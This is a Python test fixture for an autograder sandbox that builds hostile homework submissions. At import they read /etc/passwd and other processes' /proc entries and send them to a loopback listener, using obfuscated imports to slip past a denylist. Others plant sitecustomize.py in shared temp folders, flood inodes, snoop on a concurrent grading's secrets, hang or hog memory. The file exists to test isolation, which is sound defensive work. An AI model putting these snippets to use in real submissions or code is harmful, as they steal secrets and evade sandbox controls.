"""
Hostile submissions that attack the machine rather than the harness: network, other gradings'
folders, files left in the shared temp folders, a thread that keeps the child alive, /proc of
other processes, a hang past the whole run's budget, memory beyond the container's. Each is the
reference model with a few lines added at import, so its honest score is known (full marks,
or 0 where the attack stops the import). Merged into build.py's CASES; graded by
tests/corpora/test_hostile_os.py, which substitutes the placeholders (port, token, paths).
"""

IMPORTS_END = 'from mingpt.utils import CfgNode as CN\n'

NET = '''
# HOSTILE: reach a listener on the loopback through __import__ (the import denylist reads only import
# statements), the raw socket syscall through ctypes, IPv6 and AF_UNIX; send the job, /etc/passwd and
# the command lines of every process
def _hostile_net():
    found = []
    payload = b'HOSTILE-LEAK '
    for path in ('/etc/passwd', '/proc/self/cmdline', '/proc/1/cmdline', os.path.join(os.getcwd(), '..', 'job.json')):
        try:
            with open(path, 'rb') as f:
                payload += f.read()[:2000]
        except Exception:
            pass
    sock = __import__('so' + 'cket')
    for family, address in ((sock.AF_INET, ('127.0.0.1', 47001)), (sock.AF_INET6, ('::1', 47001))):
        try:
            s = sock.socket(family, sock.SOCK_STREAM)
            s.settimeout(3)
            s.connect(address)
            s.sendall(payload)
            s.close()
            found.append('connected')
        except Exception as e:
            found.append(type(e).__name__)
    try:
        sock.socket(sock.AF_UNIX, sock.SOCK_STREAM).close()
        found.append('unix-socket-made')
    except Exception as e:
        found.append(type(e).__name__)
    try:
        ct = __import__('ct' + 'ypes')
        libc = ct.CDLL(None, use_errno=True)
        fd = libc.syscall(41 if os.uname().machine == 'x86_64' else 198, 2, 1, 0)
        found.append('raw-socket-fd=%d errno=%d' % (fd, ct.get_errno()))
    except Exception as e:
        found.append(type(e).__name__)
    print('HOSTILE-NET %s' % ' '.join(found))


_hostile_net()
'''

PLANT = '''
# HOSTILE: plant files in the shared temp folders, meant to outlive the grading: an importable torch.py
# and sitecustomize.py, 8 MB in /dev/shm, 20,000 inodes, and a folder locked with mode 0
def _hostile_plant():
    made = []
    for top in ('/tmp', '/var/tmp', '/dev/shm'):
        folder = os.path.join(top, 'hw1-HOSTILETOKEN')
        try:
            os.makedirs(folder, exist_ok=True)
            for name in ('torch.py', 'sitecustomize.py'):
                with open(os.path.join(folder, name), 'w') as f:
                    f.write('print("HOSTILE-PLANTED")\\n')
            made.append(folder)
        except Exception as e:
            made.append('%s:%s' % (top, type(e).__name__))
    try:
        with open('/dev/shm/hw1-HOSTILETOKEN-big', 'wb') as f:
            for _ in range(8):
                f.write(b'x' * (1 << 20))
        made.append('big')
    except Exception as e:
        made.append('big:%s' % type(e).__name__)
    flood = '/tmp/hw1-HOSTILETOKEN-inodes'
    count = 0
    try:
        os.makedirs(flood, exist_ok=True)
        for i in range(20000):
            open(os.path.join(flood, str(i)), 'w').close()
            count += 1
    except Exception as e:
        made.append('inodes:%s' % type(e).__name__)
    try:
        locked = '/tmp/hw1-HOSTILETOKEN-locked'
        os.makedirs(os.path.join(locked, 'inner'), exist_ok=True)
        open(os.path.join(locked, 'inner', 'kept'), 'w').close()
        os.chmod(os.path.join(locked, 'inner'), 0)
        os.chmod(locked, 0)
        made.append('locked')
    except Exception as e:
        made.append('locked:%s' % type(e).__name__)
    print('HOSTILE-PLANT %d inodes, %s' % (count, ' '.join(made)))


_hostile_plant()
'''

THREAD = '''
# HOSTILE: a non-daemon thread that never ends: without os._exit the child would wait for it for the
# whole time budget after the last probe
import threading as _hostile_threading
import time as _hostile_time


def _hostile_forever():
    while True:
        _hostile_time.sleep(0.5)


_hostile_threading.Thread(target=_hostile_forever, name='hostile-forever').start()
'''

PROC = '''
# HOSTILE: read the command line and environment of every other process through /proc
def _hostile_proc():
    mine, seen = os.getpid(), []
    for entry in os.listdir('/proc'):
        if entry.isdigit() and int(entry) != mine:
            try:
                with open('/proc/%s/cmdline' % entry, 'rb') as f:
                    seen.append(f.read().replace(b'\\0', b' ').decode(errors='replace')[:160])
            except Exception:
                pass
    print('HOSTILE-PROC %d visible: %s' % (len(seen), ' | '.join(seen)[:900]))


_hostile_proc()
'''

VICTIM = '''
# HOSTILE (victim of other_reader): leave a secret in its private folders and in the shared /tmp, then
# stay alive at import (until the test's import timeout) so that a concurrent grading can look for it
import time as _hostile_time
with open(os.path.join(os.environ.get('TMPDIR', '.'), 'secret.txt'), 'w') as _f:
    _f.write('SECRET-HOSTILETOKEN')
with open('/tmp/hw1-HOSTILETOKEN-secret.txt', 'w') as _f:
    _f.write('SECRET-HOSTILETOKEN')
while True:
    _hostile_time.sleep(0.2)
'''

READER = '''
# HOSTILE: read a concurrent grading's folders (its scratch, job, outputs, temp files); the test
# writes that grading's scratch path over /HOSTILE-TARGET
def _hostile_read():
    target = '/HOSTILE-TARGET'
    found = []
    for path in ('/var/lib/hw1-sandbox', target, target + '/mingpt/model.py', target + '/job/job.json',
                 target + '/job/out', target + '/job/home', target + '/job/home/secret.txt',
                 '/tmp/hw1-HOSTILETOKEN-secret.txt'):
        try:
            if os.path.isdir(path):
                found.append('%s: LISTED %s' % (path, sorted(os.listdir(path))[:5]))
            else:
                with open(path, 'rb') as f:
                    found.append('%s: READ %r' % (path, f.read()[:60]))
        except Exception as e:
            found.append('%s: %s' % (path, type(e).__name__))
    print('HOSTILE-OTHER ' + ' ;; '.join(found))


_hostile_read()
'''

HANG = '''
# HOSTILE: hang at import for longer than the whole grading may take (the test gives the import a
# timeout beyond the watchdog's budget, so only the watchdog can end it)
while True:
    pass
'''

MEMORY = '''
# HOSTILE: 700 MB allocated and touched at import: within the child's address-space limit, beyond what
# a 768 MB container holds together with torch and the grader
_HOSTILE_HOG = torch.ones(175_000_000)
'''


def _at_import(code):
    return 'reference', [(IMPORTS_END, IMPORTS_END + code)]


def _case(what, code):
    base, edits = _at_import(code)
    return what, base, edits


# name -> (what it does, base, edits): the format of build.py's CASES
CASES = {
    'net_socket': _case('connects to a loopback listener through __import__, raw syscalls, IPv6 and AF_UNIX', NET),
    'plant_tmp': _case('plants torch.py, sitecustomize.py, 8 MB and 20,000 inodes in /tmp, /var/tmp, /dev/shm', PLANT),
    'thread_forever': _case('starts a non-daemon thread that never ends', THREAD),
    'proc_snoop': _case("reads every other process's command line through /proc", PROC),
    'other_victim': _case('leaves secrets in its folders and /tmp, then waits at import (for other_reader)', VICTIM),
    'other_reader': _case("reads a concurrent grading's scratch folder, outputs and temp files", READER),
    'hang_past_watchdog': _case('hangs at import past the whole run\'s budget', HANG),
    'memory_hog': _case('allocates and touches 700 MB at import', MEMORY),
}
